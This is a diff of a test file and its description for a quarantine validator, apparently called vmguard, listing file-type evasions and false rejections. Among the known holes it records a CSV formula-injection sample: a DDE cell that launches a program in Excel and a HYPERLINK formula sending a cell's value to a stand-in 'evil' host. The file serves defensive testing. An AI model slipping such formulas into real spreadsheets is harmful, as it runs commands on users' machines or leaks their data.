@@ -5,22 +5,28 @@ Attacked: what session 34 fixed. Names that announce JSON: the 27 extensions are
 last extensions, but Apache types a name by its rightmost extension that has a type, a
 rule vmguard applies to pages (`page.html.en`, `feed.xml.dat` are refused) and not to
 JSON (`x.json.dat`, `x.geojson.out`, `x.json.en`, `x.json.utf8`, `x.json.dat.gz` publish
-JSON-shaped text whose white space is free). FITS ASCII tables: NaN/INF in mixed case,
+JSON-shaped text whose white space is free; a real Apache 2.4 with Debian's mime.conf,
+where installed, confirms the Content-Type). FITS ASCII tables: NaN/INF in mixed case,
 `+INF`, `-infinity`, a 3-digit exponent 0, d = 0 forms mixed in Ew.0/Dw.0 and C's `%#.0E`
 point (all refused). JSON numbers no serializer writes and once-per-file choices mixed
 (refused). Text a client acts on: a CSV with an Excel DDE formula (published). False
 rejections: Python's gzip appending a member per session when a session logs nothing
-(an empty member beside others), and a log line holding Python's repr of `object()`
-(`<object object at 0x...>`, the text rule's `<object`). Controls: json/orjson/ujson/
-simplejson/json.tool/jq, pandas with tiny and huge floats (records, table, lines,
+(an empty member beside others), a log line holding Python's repr of `object()`
+(`<object object at 0x...>`, the text rule's `<object`), and two the docs choose (tqdm's
+nested bars' ESC [A in a job's .err; a log holding nginx's 502 page). A report line: a
+refusal's "near byte N" names the start of the 1 MiB read, not the character.
+
+Controls: json/orjson/ujson/simplejson/json.tool/jq (64-bit ids too), node's
+JSON.stringify, papermill notebooks (pandas HTML, a plotly <script> in strings), pandas with tiny and huge floats (records, table, lines,
 double_precision=15), logging in UTF-8 and UTF-16, YAML, LHE with POWHEG's comment and
 CDATA, HepMC3, SLHA, Fortran E output, pandas' Excel UTF-16 TSV, BOM, CRLF, QUOTE_ALL,
 numpy.savetxt with E-120, GNU gzip --rsyncable, pigz (-1 -6 -9 -11 -i --rsyncable),
 Python's gzip with mtime, astropy ASCII tables (non-finite, d = 0, E-324 and D+308) and
 compressed images (HCOMPRESS lossy, RICE without dither or with a negative quantize
-level, GZIP_2 int32).
+level, GZIP_2 int32), fitsio's (cfitsio) tables and images where installed, a single
+tqdm bar in a job's .err.
 
-Every file is built once, at import (about 3 s), and all go into one quarantine vetted
+Every file is built once, at import (about 3 s of CPU), and all go into one quarantine vetted
 ONCE through the CLI with the shipped allow_types (scanners off, per-file promotion). A
 hit is a strict xfail (HOLES, FALSE_REJECTIONS) whose reason says what got out or was
 refused.
@@ -107,8 +113,9 @@ HOLES: dict[str, str] = {
         type=f"{_JSON} once unpacked: gunzip names the inner file x.json.dat (vmguard judges that name, as "
         "it refuses the same text in x.json.gz)"
     ),
-    "csv-dde-formula.csv": "published: a .csv whose cell is =cmd|' /C calc'!A0, a DDE formula Excel runs "
-    "when the file is opened (after a prompt; =HYPERLINK/=WEBSERVICE cells need none): text a client "
+    "csv-dde-formula.csv": "published: a .csv whose cell is =cmd|' /C calc'!A0; Excel evaluates a cell "
+    "starting = as a formula when it opens a .csv (this DDE launch asks first and is off by default in "
+    'Microsoft 365 since 2023; =HYPERLINK("http://evil/?"&A1) leaks a cell on one click): text a client '
     "treats as active content; docs/quarantine.md calls text content data, so this may be by design",
 }
 _EMPTY_MEMBER = (
